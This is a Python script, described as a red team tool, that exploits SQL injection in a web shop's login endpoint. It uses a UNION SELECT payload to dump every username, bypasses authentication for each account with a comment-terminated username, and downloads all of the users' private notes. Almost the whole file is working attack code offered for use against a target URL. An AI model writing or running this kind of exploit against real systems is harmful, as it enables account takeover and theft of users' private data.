#!/usr/bin/env python3
"""Red team tool: steal every user's notes from the Cyber Shop via its SQL injection.

Usage: shop_loot.py BASE_URL. Prints each note on its own line; exits 1 when
the injection does not work (the shop is patched) or the shop is unreachable.
"""

import http.cookiejar
import json
import sys
import urllib.error
import urllib.request

UNION = "x' UNION SELECT 1, group_concat(username, ',') FROM users -- "


def post(opener, url, body):
    request = urllib.request.Request(
        url, data=json.dumps(body).encode(), headers={"Content-Type": "application/json"}
    )
    with opener.open(request, timeout=10) as response:
        return json.load(response)


def session():
    return urllib.request.build_opener(
        urllib.request.HTTPCookieProcessor(http.cookiejar.CookieJar())
    )


def main(base):
    try:
        names = post(session(), f"{base}/api/login", {"username": UNION, "password": "x"})
    except (urllib.error.URLError, OSError, ValueError) as exc:
        print(f"injection failed: {exc}")
        return 1
    users = [u for u in str(names.get("username", "")).split(",") if u]
    print(f"users: {len(users)}")
    for user in users:
        opener = session()
        try:
            post(opener, f"{base}/api/login", {"username": f"{user}' -- ", "password": "x"})
            with opener.open(f"{base}/api/notes", timeout=10) as response:
                notes = json.load(response).get("notes", [])
        except (urllib.error.URLError, OSError, ValueError):
            continue
        for note in notes:
            print(note.get("body", ""))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1].rstrip("/")))
